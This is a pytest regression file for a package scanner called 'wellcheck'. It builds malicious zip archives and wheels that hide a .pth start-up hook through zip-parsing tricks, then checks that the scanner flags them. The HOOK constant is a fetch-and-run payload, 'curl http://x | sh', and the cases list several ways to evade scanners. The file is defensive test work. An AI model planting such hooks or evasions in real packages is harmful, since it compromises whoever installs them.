"""Issue 11 through ``wellcheck scan``: zips that really install or run a start-up hook
where wellcheck used to say PASS (exit 0) now give the finding (1), "not checked" (3)
or a one-line hostile-artifact error (2).

The zips are built in the test; each case says what CPython's zipfile (pip) sees.
"""

from __future__ import annotations

import io
import json
import stat
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from zipkit import WHEEL, RawMember, dist_info, raw_zip, symlink, unicode_path

SITE = "python/lib/python3.12/site-packages/"
HOOK = b"import os; os.system('curl http://x | sh')\n"
Scan = Callable[..., tuple[int, dict[str, object] | None, str]]


@pytest.fixture
def scan(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Scan:
    """``wellcheck scan --no-advisories -f json`` in this process (``wellcheck.cli.main``)."""
    from wellcheck.cli import main

    monkeypatch.setenv("WELLCHECK_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setenv("NO_COLOR", "1")

    def run(data: bytes, name: str = "layer.zip") -> tuple[int, dict[str, object] | None, str]:
        artifact = tmp_path / name
        artifact.write_bytes(data)
        argv = ["wellcheck", "scan", str(artifact), "--no-advisories", "-f", "json"]
        monkeypatch.setattr(sys, "argv", argv)
        capsys.readouterr()
        with pytest.raises(SystemExit) as exited:
            main()
        out, err = capsys.readouterr()
        code = exited.value.code
        return (code if isinstance(code, int) else 1), json.loads(out) if out else None, err

    return run


def layer(*members: RawMember) -> bytes:
    """A Lambda layer: requests in site-packages, plus ``members``."""
    base = [RawMember(n, d) for n, d in dist_info("requests", "2.25.1", root=SITE).items()]
    return raw_zip([*base, *members])


def artifact(report: dict[str, object] | None) -> dict[str, object]:
    assert report is not None
    [only] = report["artifacts"]  # type: ignore[index]
    return only  # type: ignore[no-any-return]


def rules(report: dict[str, object] | None) -> set[str]:
    return {finding["rule"] for finding in artifact(report)["findings"]}  # type: ignore[attr-defined]


def test_a_clean_layer_passes(scan: Scan) -> None:
    code, report, _ = scan(layer())
    assert code == 0
    assert "WC-PTH-EXEC" not in rules(report)


def test_several_end_records_the_readers_pick_differently_exit_2(scan: Scan) -> None:
    """zipfile/pip and unzip read the appended layer (its comment length runs past the
    end); wellcheck read the first, clean, one and said PASS."""
    data = layer() + raw_zip([RawMember(SITE + "evil.pth", HOOK)], comment_length=300)
    assert zipfile.ZipFile(io.BytesIO(data)).namelist() == [SITE + "evil.pth"]
    code, report, _ = scan(data)
    assert code == 2
    assert "breaks rule ambiguous-end-record" in str(artifact(report)["error"])
    assert artifact(report)["components"] == []


def test_a_local_name_that_differs_on_a_member_never_read_exits_2(scan: Scan) -> None:
    data = layer(RawMember("README.txt", HOOK, local_name=(SITE + "evil.pth").encode()))
    code, _, err = scan(data)
    assert code == 2
    assert "member 'README.txt' breaks rule local-header-mismatch" in err


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_bzip2_or_lzma_start_up_hook_is_found(scan: Scan, method: int) -> None:
    """pip installs bzip2 and LZMA members; wellcheck used to skip the .pth unread."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as zf:
        for name, data in dist_info("requests", "2.25.1", root=SITE).items():
            zf.writestr(name, data)
        zf.writestr(SITE + "evil.pth", HOOK)
    code, report, _ = scan(buffer.getvalue())
    assert code == 1
    assert "WC-PTH-EXEC" in rules(report)


def test_a_hook_in_a_method_wellcheck_cannot_read_is_not_checked(scan: Scan) -> None:
    """Deflate64 (unzip reads it) on a .pth: "not checked", exit 3, naming the member."""
    code, report, _ = scan(layer(RawMember(SITE + "evil.pth", HOOK, method=9)))
    assert code == 3
    reasons = [item["reason"] for item in artifact(report)["not_checked"]]  # type: ignore[attr-defined]
    assert reasons == [
        f"member not read: {SITE}evil.pth: compression method 9 (deflate64), which wellcheck "
        "does not read"
    ]


def test_an_encrypted_hook_is_not_checked(scan: Scan) -> None:
    code, _, _ = scan(layer(RawMember(SITE + "evil.pth", HOOK, flags=0x1)))
    assert code == 3


def test_a_symlink_mode_hook_in_a_wheel_is_the_file_pip_writes(scan: Scan) -> None:
    info = "evil-1.0.dist-info"
    wheel = raw_zip(
        [
            RawMember(f"{info}/METADATA", b"Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"),
            RawMember(f"{info}/WHEEL", WHEEL),
            RawMember(f"{info}/RECORD", b"evil.pth,,\n"),
            symlink("evil.pth", HOOK.decode()),
        ]
    )
    assert zipfile.ZipFile(io.BytesIO(wheel)).read("evil.pth") == HOOK
    code, report, _ = scan(wheel, "evil-1.0-py3-none-any.whl")
    assert code == 1
    assert "WC-PTH-EXEC" in rules(report)


def test_a_lambda_link_whose_target_is_code_exits_2(scan: Scan) -> None:
    code, _, err = scan(layer(symlink(SITE + "evil.pth", HOOK.decode())))
    assert code == 2
    assert "breaks rule ambiguous-symlink" in err


@pytest.mark.parametrize("mode", [stat.S_IFIFO, stat.S_IFDIR, stat.S_IFCHR])
def test_a_hook_whose_mode_says_fifo_directory_or_device_is_found(scan: Scan, mode: int) -> None:
    """unzip and zipfile write it as a regular .pth; wellcheck used to skip it."""
    code, report, _ = scan(layer(RawMember(SITE + "evil.pth", HOOK, mode=mode | 0o644)))
    assert code == 1
    assert "WC-PTH-EXEC" in rules(report)


def test_a_unicode_path_field_that_renames_a_member_exits_2(scan: Scan) -> None:
    """zipfile 3.12+ and unzip install README.txt as evil.pth."""
    extra = unicode_path(SITE + "evil.pth", header_name=b"README.txt")
    code, _, err = scan(layer(RawMember("README.txt", HOOK, extra=extra)))
    assert code == 2
    assert "breaks rule unicode-path-mismatch" in err
